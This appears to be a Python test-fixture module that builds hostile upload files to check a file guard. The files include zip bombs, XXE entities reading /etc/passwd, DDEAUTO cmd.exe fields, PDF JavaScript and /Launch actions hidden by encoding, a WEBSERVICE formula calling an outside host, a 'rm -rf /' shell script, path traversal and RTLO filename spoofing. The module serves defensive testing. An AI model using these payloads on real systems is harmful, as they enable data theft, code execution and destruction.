"""Hostile files, made here in code: none is real malware, each carries what malware would.

Every kind says how to tell, without our guard, that a file still carries its harm.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import docx
import openpyxl
from PIL import Image

PDF = b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <<>>\n%%EOF\n"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """A file under a name, and how to see that it would do harm."""

    name: str
    content: bytes
    is_harmful: Callable[[bytes], bool]


def word_file():
    made = io.BytesIO()
    paper = docx.Document()
    paper.add_paragraph("Арыз")
    paper.save(made)
    return made.getvalue()


def sheet_file(rows=3):
    made = io.BytesIO()
    book = openpyxl.Workbook()
    for number in range(rows):
        book.active.append([number, "Асан"])
    book.save(made)
    return made.getvalue()


def picture(form="PNG", size=(40, 30), **options):
    made = io.BytesIO()
    Image.new("RGB", size, "green").save(made, form, **options)
    return made.getvalue()


def with_parts(content, parts, *, way=zipfile.ZIP_DEFLATED):
    """The same archive with parts added or replaced."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(made, "w", way) as new:
        for part in old.namelist():
            if part not in parts:
                new.writestr(part, old.read(part))
        for name, text in parts.items():
            new.writestr(name, text)
    return made.getvalue()


def open_document(content_xml, extra=()):
    """An OpenDocument text with this content."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as new:
        new.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        new.writestr("content.xml", content_xml)
        for name, text in extra:
            new.writestr(name, text)
    return made.getvalue()


def eicar():
    """The line that every virus scanner knows, put together only here."""
    parts = ("X5O!P%@AP[4\\PZX54(P^)7CC)7}", "$EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*")
    return "".join(parts).encode()


def relation(kind, target, mode="External"):
    return (
        f'<Relationships><Relationship Id="r1" TargetMode="{mode}" Type="{RELATION}/{kind}" '
        f'Target="{target}"/></Relationships>'
    )


def field(order):
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return f"<w:document {space}><w:body><w:p><w:r>{order}</w:r></w:p></w:body></w:document>"


def packed_script(filters="/Filter /FlateDecode", pack=zlib.compress):
    objects = pack(b"2 0 << /S /JavaScript /JS (app.alert(1)) >>")
    return (
        b"%PDF-1.7\n1 0 obj <</Type /ObjStm /N 1 /First 4 " + filters.encode() + b" /Length "
        + str(len(objects)).encode() + b">>\nstream\n" + objects + b"\nendstream endobj\n%%EOF\n"
    )  # fmt: skip


def huge_picture():
    """A picture of 50,000 by 50,000 that says so in its head and holds almost nothing."""

    def piece(kind, data):
        return (
            struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
        )

    head = struct.pack("!IIBBBBB", 50_000, 50_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(6_251) * 2_000)
    return b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", head) + piece(b"IDAT", rows) + piece(b"IEND", b"")


def many_parts():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as new:
        for number in range(30_000):
            new.writestr(f"word/{number}.xml", "")
    return made.getvalue()


def flat_bomb():
    return with_parts(word_file(), {"word/media/x.xml": b"<x>" + b"0" * 55_000_000 + b"</x>"})


def has_part(word):
    """An archive that opens and has a part whose name holds the word."""

    def look(content):
        try:
            with zipfile.ZipFile(io.BytesIO(content)) as archive:
                return any(word in name.lower() for name in archive.namelist())
        except Exception:  # noqa: BLE001 - it does not open at all
            return False

    return look


def part_says(part, *words):
    """An archive that opens and whose part says all the words."""

    def look(content):
        try:
            with zipfile.ZipFile(io.BytesIO(content)) as archive:
                text = archive.read(part).lower()
        except Exception:  # noqa: BLE001 - it does not open at all
            return False
        return all(word in text for word in words)

    return look


def says(*words):
    return lambda content: all(word in content for word in words)


def packs_script(content):
    """A stream that says how it is packed and, unpacked, holds a script."""
    for head, _stream, packed in (
        (content[max(0, place - 120) : place], 0, content[place + 7 :])
        for place in range(len(content))
        if content.startswith(b"stream\n", place)
    ):
        try:
            objects = zlib.decompressobj().decompress(packed)
        except zlib.error:
            continue
        if b"/First" in head and b"/Filter /FlateDecode" in head and b"/JavaScript " in objects:
            return True
    return False


def packs_script_twice(content):
    """The same, written in hexadecimal figures."""
    head, _stream, packed = content.partition(b"stream\n")
    figures = packed.partition(b"\nendstream")[0]
    try:
        objects = zlib.decompressobj().decompress(bytes.fromhex(figures.decode("ascii")))
    except (ValueError, zlib.error):
        return False
    is_said = b"/First" in head and b"/Filter [/ASCIIHexDecode /FlateDecode]" in head
    return is_said and b"/JavaScript " in objects


def begins(*starts):
    return lambda content: content.startswith(starts)


def never(_content):
    """Harm lies in its size alone, which the guard measures."""
    return False


def swells(content):
    try:
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return sum(part.file_size for part in archive.infolist()) > 60_000_000
    except Exception:  # noqa: BLE001 - it does not open at all
        return False


DOCUMENT = "word/document.xml"
MACRO_TYPES = (
    '<Types><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
RELATIONS = "word/_rels/document.xml.rels"
PIC = 'xmlns:draw="d" xmlns:xlink="x"'


@cache
def corpus():
    """Every kind: name -> file."""
    word, sheet = word_file(), sheet_file()
    return {
        "zip bomb": Hostile("a.docx", flat_bomb(), swells),
        "too many parts": Hostile("a.docx", many_parts(), never),
        "external entity": Hostile("a.docx", with_parts(word, {DOCUMENT: ENTITY}),
            part_says(DOCUMENT, b"<!doctype", b"<!entity")),
        "entities that grow": Hostile("a.xlsx", with_parts(sheet, {"xl/sharedStrings.xml": LAUGHS}),
            part_says("xl/sharedStrings.xml", b"<!doctype", b"<!entity")),
        "macros": Hostile("a.docx", with_parts(word, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
            has_part("vbaproject")),
        "macro type": Hostile("a.docx", with_parts(word, {"[Content_Types].xml": MACRO_TYPES}),
            part_says("[Content_Types].xml", b"macroenabled")),
        "old macro sheet": Hostile("a.xlsx", with_parts(sheet, {"xl/macrosheets/s.xml": "<x/>"}),
            has_part("macrosheets")),
        "object inside": Hostile("a.docx", with_parts(word, {"word/embeddings/o.bin": b"MZ"}),
            has_part("embeddings")),
        "external template": Hostile("a.docx", with_parts(word, {
            "word/_rels/settings.xml.rels": relation("attachedTemplate", "http://x.example/t")}),
            part_says("word/_rels/settings.xml.rels", b"attachedtemplate", b'"external"')),
        "external template by number": Hostile("a.docx", with_parts(word, {
            RELATIONS: relation("attachedTemplate", "http://x.example/t", "&#69;xternal")}),
            part_says(RELATIONS, b"attachedtemplate", b"&#69;xternal")),
        "order in a field": Hostile("a.docx", with_parts(word, {
            DOCUMENT: field("<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>")}),
            part_says(DOCUMENT, b"<w:instrtext", b" ddeauto ")),
        "order in two halves": Hostile("a.docx", with_parts(word, {
            DOCUMENT: field("<w:instrText> DDE</w:instrText><w:instrText>AUTO cmd </w:instrText>")}),
            part_says(DOCUMENT, b" dde</w:instrtext><w:instrtext>auto ")),
        "asking formula": Hostile("a.xlsx", with_parts(sheet, {"xl/worksheets/sheet2.xml":
            '<x><f>WEBSERVICE("http://x.example")</f></x>'}),
            part_says("xl/worksheets/sheet2.xml", b"<f>webservice(")),
        "data connection": Hostile("a.xlsx", with_parts(sheet, {"xl/connections.xml": "<x/>"}),
            has_part("connections.xml")),
        "macro in OpenDocument": Hostile("a.odt", open_document(
            '<x xmlns:script="s"><script:event-listener script:language="ooo:script"/></x>'),
            part_says("content.xml", b"<script:event-listener")),
        "picture elsewhere": Hostile("a.odt", open_document(
            f'<x {PIC}><draw:image xlink:href="http://x.example/p.png"/></x>'),
            part_says("content.xml", b'<draw:image xlink:href="http')),
        "program": Hostile("a.docx", b"MZ\x90\x00" + bytes(200), begins(b"MZ")),
        "script of the shell": Hostile("a.pdf", b"#!/bin/sh\nrm -rf /\n", begins(b"#!")),
        "web page as PDF": Hostile("a.pdf", b"<html><script>x</script>%PDF-1.7 %%EOF",
            begins(b"<html")),
        "web page in a PDF": Hostile("a.pdf", PDF.replace(b"1 0 obj", b"<script>x</script> 1 0 obj"),
            says(b"<script>")),
        "PDF and archive": Hostile("a.pdf", PDF + word + b"%%EOF", never),
        "archive after a picture": Hostile("a.docx", picture() + word, begins(b"\x89PNG")),
        "huge picture": Hostile("a.png", huge_picture(), never),
        "drawing with a script": Hostile("a.svg", b"<svg onload='alert(1)'/>", says(b"<svg")),
        "EICAR": Hostile("a.pdf", eicar(), says(b"EICAR-STANDARD")),
        "script in a PDF": Hostile("a.pdf", PDF.replace(b"/Catalog",
            b"/Catalog /OpenAction <</S /JavaScript /JS (app.alert(1))>>"),
            says(b"/JavaScript ", b"/JS (")),
        "script by numbers in a PDF": Hostile("a.pdf", PDF.replace(b"/Catalog",
            b"/Catalog /OpenAction <</S /J#61vaScript /J#53 (app.alert(1))>>"),
            says(b"/J#61vaScript ", b"/J#53 (")),
        "packed script in a PDF": Hostile("a.pdf", packed_script(),
            packs_script),
        "script packed twice": Hostile("a.pdf", packed_script(
            "/Filter [/ASCIIHexDecode /FlateDecode]", lambda text: zlib.compress(text).hex().encode()),
            packs_script_twice),
        "program to start in a PDF": Hostile("a.pdf", PDF.replace(b"/Catalog",
            b"/Catalog /AA <</O <</S /Launch /F (cmd.exe)>>>>"), says(b"/Launch ")),
        "locked PDF": Hostile("a.pdf", PDF.replace(b"<<>>", b"<</Encrypt 2 0 R>>"),
            says(b"/Encrypt ")),
        "old Office": Hostile("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
            begins(b"\xd0\xcf\x11\xe0")),
        "way out of the folder": Hostile("a.docx", with_parts(word, {"../../x.xml": "<x/>"}),
            has_part("../")),
        "two of one name": Hostile("a.docx", with_parts(word, {DOCUMENT.upper(): "<x/>"}),
            lambda content: has_part("word/document.xml")(content)
            and b"WORD/DOCUMENT.XML" in content),
        "program among pictures": Hostile("a.docx", with_parts(word, {"word/media/a.png": b"MZ\x90"},
            way=zipfile.ZIP_STORED), part_says("word/media/a.png", b"mz\x90")),
        "double ending": Hostile("list.exe.pdf", PDF, never),
        "ending turned round": Hostile("invoice\u202efdp.exe", b"MZ", begins(b"MZ")),
    }  # fmt: skip
